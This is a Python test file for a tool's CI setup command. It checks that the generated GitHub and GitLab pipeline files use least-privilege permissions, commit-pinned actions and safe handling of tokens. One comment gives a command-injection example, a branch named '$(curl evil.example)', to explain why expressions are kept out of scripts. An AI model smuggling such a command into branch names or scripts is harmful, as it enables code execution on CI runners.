"""``sizewell init --ci``: the files, and what their scripts do."""

import re
import subprocess
from pathlib import Path

import pytest

from sizewell.cli.init_command import ci_files
from tests.cli.ci_runner import PIPELINE, WORKFLOW, load, scripts
from tests.cli.conftest import Sizewell
from tests.synthesis import PROJECT_ROOT


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "repository"
    (root / ".git").mkdir(parents=True)
    monkeypatch.chdir(root)
    return root


# What is written.


def test_the_workflow_of_this_project_is_the_generated_one() -> None:
    for path, text in ci_files("github").items():
        assert (PROJECT_ROOT / path).read_bytes() == text.encode(), (
            f"write it again: sizewell init --ci github {path}"
        )


@pytest.mark.parametrize(
    ("ci", "paths", "next_step"),
    [("github", [WORKFLOW], "Require the check review"), ("gitlab", [PIPELINE], f"include: {PIPELINE}")],
)
def test_files_are_written_and_named(
    sizewell: Sizewell, repository: Path, ci: str, paths: list[str], next_step: str
) -> None:
    result = sizewell("init", "--ci", ci)
    assert (result.exit_code, result.stderr) == (0, "")
    assert [line for line in result.stdout.splitlines() if line.endswith(": written")] == [
        f"{path}: written" for path in paths
    ]
    assert next_step in result.stdout
    assert [p.relative_to(repository).as_posix() for p in sorted(repository.rglob("*.yml"))] == paths
    assert f"{paths[0]}: is there already" in sizewell("init", "--ci", ci).stdout


def test_a_changed_file_is_kept_unless_forced(sizewell: Sizewell, repository: Path) -> None:
    (repository / WORKFLOW).parent.mkdir(parents=True)
    (repository / WORKFLOW).write_text("mine")
    result = sizewell("init", "--ci", "github")
    assert (result.exit_code, result.stdout) == (1, "")
    assert f"nothing was written:\n  {WORKFLOW}\n" in result.stderr
    assert (repository / WORKFLOW).read_text() == "mine"
    assert f"{WORKFLOW}: replaced" in sizewell("init", "--ci", "github", "--force").stdout
    assert (repository / WORKFLOW).read_text() == ci_files("github")[WORKFLOW]


def test_a_file_that_cannot_be_written(sizewell: Sizewell, repository: Path) -> None:
    (repository / ".gitlab").write_text("a file")
    result = sizewell("init", "--ci", "gitlab")
    assert result.exit_code == 1
    assert "cannot be written" in result.stderr


@pytest.mark.parametrize(("ci", "path"), [("github", WORKFLOW), ("gitlab", PIPELINE)])
@pytest.mark.parametrize("name", ["ml", "größe 1", 'it\'s "quoted": yes', "🚀"])
def test_a_project_below_the_root(
    sizewell: Sizewell, repository: Path, monkeypatch: pytest.MonkeyPatch, ci: str, path: str, name: str
) -> None:
    (repository / "apps" / name).mkdir(parents=True)
    monkeypatch.chdir(repository / "apps" / name)
    assert sizewell("init", "--ci", ci).exit_code == 0
    document = load((repository / path).read_text("utf-8"))
    variables = document["env"] if ci == "github" else document[".sizewell"]["variables"]
    assert variables["PROJECT"] == f"apps/{name}"


def test_a_forge_must_be_named(sizewell: Sizewell) -> None:
    assert sizewell("init").exit_code == 2
    assert sizewell("init", "--ci", "jenkins").exit_code == 2


# What holds for every script.


@pytest.mark.parametrize("ci", ["github", "gitlab"])
def test_scripts_are_bash(ci: str) -> None:
    assert scripts(ci)
    for name, text in scripts(ci).items():
        result = subprocess.run(["bash", "-n"], input=text, capture_output=True, text=True, check=False)
        assert (result.returncode, result.stderr) == (0, ""), name


def test_no_expression_is_text_of_a_script() -> None:
    # A branch may be called $(curl evil.example): only a variable keeps it a value.
    for path, text in ci_files("github").items():
        for script in (*scripts("github").values(), *re.findall(r"run: (.+)", text)):
            assert "${{" not in script, path


def test_every_action_is_pinned_to_a_commit() -> None:
    texts = [path.read_text("utf-8") for path in (PROJECT_ROOT / ".github").rglob("*.yml")]
    uses = [
        line
        for text in (*texts, *ci_files("github").values())
        for line in text.splitlines()
        if "uses:" in line
    ]
    assert len(uses) > 8
    for line in uses:
        assert re.fullmatch(r" *(- )?uses: [a-z-]+/[a-z-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", line), line
    # The same version everywhere.
    assert len({line.partition("uses: ")[2] for line in uses}) == len(
        {line.partition("uses: ")[2].partition("@")[0] for line in uses}
    )


def test_no_job_of_the_workflow_may_do_more_than_it_needs() -> None:
    workflow = load(ci_files("github")[WORKFLOW])
    # Not pull_request_target, which hands the secrets to the code of anybody.
    assert list(workflow["on"]) == ["pull_request"]
    assert workflow["permissions"] == {}
    jobs = workflow["jobs"]
    assert {name: job["permissions"] for name, job in jobs.items()} == {
        "synthesize": {"contents": "read"},
        "review": {"contents": "read"},
        "comment": {"pull-requests": "write"},
    }
    assert workflow["concurrency"]["cancel-in-progress"] is True
    assert "secrets." not in ci_files("github")[WORKFLOW]
    for name, job in jobs.items():
        used = {step["uses"].partition("@")[0]: step.get("with") for step in job["steps"] if "uses" in step}
        checkout = used.get("actions/checkout")
        assert (checkout is None) == (name == "comment")
        assert checkout is None or checkout["persist-credentials"] is False
        tokens = [step for step in job["steps"] if "github.token" in str(step)]
        assert bool(tokens) == (name == "comment")


def test_what_judges_reads_no_cache_and_runs_after_any_fault() -> None:
    jobs = load(ci_files("github")[WORKFLOW])["jobs"]
    for name in ("review", "comment"):
        assert jobs[name]["if"] == "always()"
        assert "cache" not in str(jobs[name]["steps"])
    names = [step.get("name", step.get("uses", "").partition("@")[0]) for step in jobs["review"]["steps"]]
    assert names[:2] == ["actions/checkout", "Take base"]
    assert jobs["review"]["steps"][0]["with"]["fetch-depth"] == 2
    pipeline = load(ci_files("gitlab")[PIPELINE])
    review = pipeline["sizewell-review"]
    assert (review["cache"], review["variables"]["GIT_STRATEGY"]) == ([], "clone")
    assert review["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"', "when": "always"}]


def test_the_pipeline_runs_on_merge_requests_with_base_in_the_clone() -> None:
    pipeline = load(ci_files("gitlab")[PIPELINE])
    synthesize, review = pipeline["sizewell-synthesize"], pipeline["sizewell-review"]
    assert synthesize["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}]
    assert review["variables"]["GIT_DEPTH"] == "0"
    assert review["needs"] == [{"job": "sizewell-synthesize", "artifacts": True}]
    assert synthesize["artifacts"]["paths"] == ["sizewell-head/"]
    assert review["artifacts"] == {
        "when": "always",
        "expose_as": "Sizewell review",
        "paths": ["sizewell-review/"],
    }
    assert all(cache["key"].endswith("-$CI_MERGE_REQUEST_IID") for cache in synthesize["cache"])


def test_the_code_of_a_merge_request_does_not_get_the_token() -> None:
    _, synthesize, review, note = load(ci_files("gitlab")[PIPELINE]).values()
    assert "environment" not in synthesize | review
    assert note["environment"] == {"name": "sizewell-note", "action": "access"}
    assert note["variables"] == {"GIT_STRATEGY": "none"}
    assert note["cache"] == []
    assert note["needs"] == [{"job": "sizewell-review", "artifacts": True}]
    assert note["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"', "when": "always"}]
    for program in ("make", "sizewell review", "pip", '$PROJECT"'):
        assert program not in note["script"][0]


@pytest.mark.parametrize(
    ("ci", "words"),
    [
        ("github", ("CODEOWNERS", "policy.review_fail_on", "protect .github/")),
        (
            "gitlab",
            ("CODEOWNERS", "policy.review_fail_on", "protect .gitlab/", "environment scope sizewell-note"),
        ),
    ],
)
def test_what_a_change_could_switch_off_is_said(
    sizewell: Sizewell, repository: Path, ci: str, words: tuple[str, ...]
) -> None:
    said = sizewell("init", "--ci", ci).stdout
    files = "".join(ci_files(ci).values())
    head = " ".join(line.removeprefix("# ") for line in files.splitlines() if line.startswith("# "))
    for word in words:
        assert word in said
        assert word.lower() in head.lower()
